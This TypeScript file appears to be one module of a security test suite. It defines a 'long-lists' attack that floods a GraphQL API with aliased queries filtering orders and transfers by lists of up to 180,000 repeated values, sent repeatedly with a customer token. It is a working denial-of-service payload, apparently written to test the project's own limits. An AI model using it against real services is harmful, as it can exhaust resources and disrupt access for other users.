import type { Attack } from '../../attack.ts';

const ALIASES = 25;
const LENGTH = 180_000;

export const longLists: Attack = {
  name: 'long-lists',
  description: `asks for orders and transfers by a list of ${LENGTH.toLocaleString('en')} states, under ${ALIASES} aliases`,
  run: async (attacker) => {
    const { token } = await attacker.customer();
    const body = (list: string, type: string, state: string, value: string, length: number) => {
      const fields = Array.from({ length: ALIASES }, (_, n) => `a${n}: ${list}(filter: $filter) { edges { cursor } }`);
      const query = `query ($filter: ${type}) { ${fields.join(' ')} }`;
      return JSON.stringify({ query, variables: { filter: { [state]: Array.from({ length }, () => value) } } });
    };
    // The last ones are as long as a list may be.
    const bodies = [LENGTH, LENGTH / 4, 1_000].flatMap((length) => [
      body('orders', 'OrderFilter', 'status', 'PLACED', length),
      body('transfers', 'TransferFilter', 'state', 'COMPLETED', length),
    ]);
    await attacker.repeat(4, 2_000, (nth) => attacker.send(bodies[nth % bodies.length] as string, token));
  },
};
